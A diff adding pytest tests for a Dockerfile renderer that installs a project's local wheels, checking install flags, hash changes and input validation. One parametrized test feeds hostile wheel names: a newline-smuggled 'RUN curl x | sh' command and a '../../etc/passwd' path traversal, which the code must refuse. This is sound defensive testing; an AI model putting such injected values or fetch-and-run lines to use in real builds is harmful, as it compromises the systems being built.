@@ -166,3 +166,46 @@ def test_environment_hash_ignores_what_is_in_neither_file():
     dockerfile, lock = _render(), LOCK_TEXT
     unrelated = dataclasses.replace(ENV, platform="Linux-9.9-other-host", lock=(), env_files=("environment.yml",))
     assert environment_hash(_render(unrelated), lock) == environment_hash(dockerfile, lock)
+
+
+# --- the project's own non-editable installs ------------------------------------------------
+
+
+WHEEL = "claimslib-0.2.0-py3-none-any.whl"
+
+
+def test_local_wheels_are_installed_after_the_lock_with_no_index_and_no_dependencies():
+    build, final = stages(render_dockerfile(ENV, wheelhouse=False, local_wheels={WHEEL: "a" * 64}))
+    assert ("COPY", ".repropack/local /opt/repropack/local") in build
+    lock_run, wheel_run = [args for keyword, args in build if keyword == "RUN"]
+    assert f"-r {LOCK_PATH}" in lock_run
+    assert wheel_run == (
+        "/opt/repropack/venv/bin/pip install --no-cache-dir --disable-pip-version-check --no-deps --no-index "
+        f"/opt/repropack/local/{WHEEL}"
+    )
+    assert "local" not in " ".join(args for _, args in final)  # only the venv reaches the final stage
+
+
+def test_the_wheels_sha256_is_in_the_text_so_other_wheels_give_another_environment_hash():
+    one = render_dockerfile(ENV, wheelhouse=False, local_wheels={WHEEL: "a" * 64})
+    other = render_dockerfile(ENV, wheelhouse=False, local_wheels={WHEEL: "b" * 64})
+    assert f"# {WHEEL} sha256:{'a' * 64}" in one.splitlines()
+    assert environment_hash(one, LOCK_TEXT) != environment_hash(other, LOCK_TEXT)
+    assert render_dockerfile(ENV, wheelhouse=False, local_wheels={}) == _render()  # none: the same text as before
+
+
+@pytest.mark.parametrize(
+    "name, sha256",
+    [
+        ("evil.whl\nRUN curl x | sh\n#.whl", "a" * 64),
+        ("../../etc/passwd.whl", "a" * 64),
+        ("claimslib-0.2.0.tar.gz", "a" * 64),
+        (WHEEL, "not-a-digest"),
+    ],
+    ids=["newline", "path", "not-a-wheel", "bad-digest"],
+)
+def test_a_wheel_name_or_digest_that_could_change_the_instructions_is_refused(name, sha256):
+    from repropack.errors import BadInput
+
+    with pytest.raises(BadInput, match="cannot be named in a Dockerfile"):
+        render_dockerfile(ENV, wheelhouse=False, local_wheels={name: sha256})
